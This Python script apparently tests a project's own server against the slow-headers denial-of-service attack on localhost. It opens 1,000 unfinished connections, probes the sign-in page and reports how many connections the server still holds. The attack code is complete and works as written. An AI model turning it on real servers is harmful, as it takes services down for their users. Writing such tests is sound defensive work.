"""Slow clients against a running server (security finding 3 of issue 13).

    python3 slow_clients.py PORT [HOLD_SECONDS]

Opens 1,000 connections from five loopback addresses (127.0.0.2-6), each
sending a request line and one header, then one more header after the hold,
never finishing: the slow-headers attack. Then five probes from another
address (127.0.0.7) ask for the sign-in page with a one-second timeout.
Prints "held=N probes_failed=N worst=SECONDS": how many slow connections the
server still holds, how many probes got no 200, and the slowest probe.
"""
import resource
import socket
import sys
import time

port = int(sys.argv[1])
hold = float(sys.argv[2]) if len(sys.argv) > 2 else 3
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))

slow = []
for i in range(1000):
    s = socket.socket()
    s.settimeout(2)
    s.bind(("127.0.0.%d" % (2 + i % 5), 0))
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        slow.append(s)
    except OSError:
        s.close()
time.sleep(hold)
for s in slow:
    try:
        s.sendall(b"X-Slow: 1\r\n")
    except OSError:
        pass

worst, failed = 0.0, 0
for _ in range(5):
    t = time.time()
    try:
        p = socket.create_connection(("127.0.0.1", port), timeout=1, source_address=("127.0.0.7", 0))
        p.sendall(b"GET /dang-nhap HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        if not p.recv(64).startswith(b"HTTP/1.1 200"):
            failed += 1
        p.close()
    except OSError:
        failed += 1
    worst = max(worst, time.time() - t)

held = 0
for s in slow:
    s.setblocking(False)
    try:
        s.recv(1)          # b"" or an error: the server closed it
    except BlockingIOError:
        held += 1          # still open, nothing to read
    except OSError:
        pass
    s.close()
print("held=%d probes_failed=%d worst=%.3f" % (held, failed, worst))
